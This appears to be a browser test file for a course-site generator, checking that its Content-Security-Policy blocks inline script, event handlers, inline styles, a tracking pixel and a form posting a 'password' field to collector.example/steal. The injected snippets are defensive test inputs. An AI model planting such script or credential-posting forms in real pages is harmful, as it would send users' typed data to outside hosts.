"""The Content-Security-Policy, seen from Chromium: inline script, handlers, styles and
forms posting elsewhere refused."""

import contextlib
from dataclasses import dataclass, field

from conftest import chapter

from benchmarks.audit import served


@dataclass
class OpenedChapter:
    """A chapter open in Chromium, with what it asked for and the CSP violations reported."""

    page: object
    base_url: str
    requested: list[str] = field(default_factory=list)
    blocked: dict[str, str] = field(default_factory=dict)
    violations: list[str] = field(default_factory=list)


@contextlib.contextmanager
def opened_chapter(browser, build_site, body: str):
    """Build a one-chapter course with `body`, serve it and open the chapter in Chromium."""
    build = build_site({"chapter1.md": chapter("One", "chapter1", body=body)})
    assert build.exit_code == 0, build.log
    with served(build.output) as base_url:
        context = browser.new_context()
        try:
            opened = OpenedChapter(context.new_page(), base_url)
            opened.page.on("request", lambda request: opened.requested.append(request.url))
            opened.page.on(
                "requestfailed",
                lambda request: opened.blocked.update({request.url: request.failure}),
            )
            opened.page.on(
                "console",
                lambda message: (
                    opened.violations.append(message.text)
                    if "Content Security Policy" in message.text
                    else None
                ),
            )
            opened.page.goto(f"{base_url}/chapter1.html")
            yield opened
        finally:
            context.close()


def test_the_browser_runs_no_inline_script_and_asks_nothing_of_another_site(browser, build_site):
    body = (
        '<script>document.title = "inline script ran"</script>\n\n'
        '<img alt="tracker" src="https://tracker.example/pixel.png">\n\n'
        '<p onclick="document.title = \'handler ran\'" id="clickable">Click me</p>\n\n'
        '<p style="color: rgb(255, 0, 0)" id="styled">Red?</p>\n\n'
        '<a href="https://example.org/" target="_blank">Elsewhere</a>\n'
    )
    with opened_chapter(browser, build_site, body) as opened:
        opened.page.click("#clickable")
        title = opened.page.title()
        color = opened.page.eval_on_selector("#styled", "e => getComputedStyle(e).color")
    assert "ran" not in title
    assert color != "rgb(255, 0, 0)"
    # Chromium reports the request it refused; none may have gone out.
    outside = {
        url: opened.blocked.get(url)
        for url in opened.requested
        if not url.startswith(opened.base_url)
    }
    assert outside == {"https://tracker.example/pixel.png": "csp"}
    assert opened.violations, "the browser reported no Content-Security-Policy violation"


def test_a_form_in_a_chapter_cannot_send_what_a_student_types_to_another_site(browser, build_site):
    body = (
        '<form action="https://collector.example/steal" method="post">\n'
        '<input id="secret" name="secret" value="password">\n'
        '<button id="send" type="submit">Send</button>\n'
        "</form>\n"
    )
    with opened_chapter(browser, build_site, body) as opened:
        with opened.page.expect_console_message(lambda message: "form-action" in message.text):
            opened.page.click("#send", no_wait_after=True)
        address = opened.page.url
    assert address == f"{opened.base_url}/chapter1.html"
    assert not [url for url in opened.requested if "collector.example" in url]
    assert any("form-action" in violation for violation in opened.violations)
